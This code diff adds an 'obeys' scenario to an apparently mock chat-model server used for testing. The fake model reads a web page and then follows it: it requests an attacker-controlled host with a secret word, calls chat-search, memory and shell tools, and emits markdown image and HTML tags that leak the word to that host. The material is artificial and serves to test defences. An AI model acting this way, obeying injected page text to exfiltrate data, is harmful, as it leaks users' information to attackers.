@@ -2,6 +2,7 @@
 
 import base64
 import json
+import re
 from collections.abc import Iterator
 from itertools import chain
 from typing import Any
@@ -55,3 +56,27 @@ def _calls(calls: list[Any], turn: int, shape: str) -> Iterator[bytes]:
 
 def _delta(call: dict[str, Any]) -> bytes:
     return frame({"choices": [{"index": 0, "delta": {"content": None, "tool_calls": [call]}}]})
+
+
+_ADDRESS = re.compile(r'<source number="\d+">\n[^\n]*\n(\S+)')
+
+
+@scenario
+async def obeys(run: Run, page: str = "", word: str = "", evil: str = "") -> None:
+    """The worst of models: it finds and reads a page, and then does whatever a page could tell it to do."""
+    results = [each["content"] for each in run.body["messages"] if each.get("role") == "tool"]
+    calls: list[Any] = []
+    text = ""
+    if not results:
+        calls = [["web_search", {"query": page}]]
+    elif len(results) == 1:
+        calls = [["read_page", {"url": address}] for address in _ADDRESS.findall(results[0])[:1]]
+    elif len(results) == 2:
+        calls = [["read_page", {"url": f"{evil}/?{word}"}], ["read_page", {"url": f"{evil}/{word}.html"}]]
+        calls += [[name, {"query": word, "fact": word}] for name in ("search_my_chats", "remember", "shell")]
+    else:
+        text = f"![x]({evil}/{word}.png) <img src='{evil}/{word}'> [open]({evil}/?{word}) Done."
+    texts = [frames.chunk(token) for token in frames.tokens_of(text)] if text else []
+    reason = "tool_calls" if calls else "stop"
+    closing = chain(frames.closing(reason, run.prompt_tokens, len(texts)), [frames.DONE])
+    await run.send(chain(texts, _calls(calls, len(results), "whole"), closing), 0)
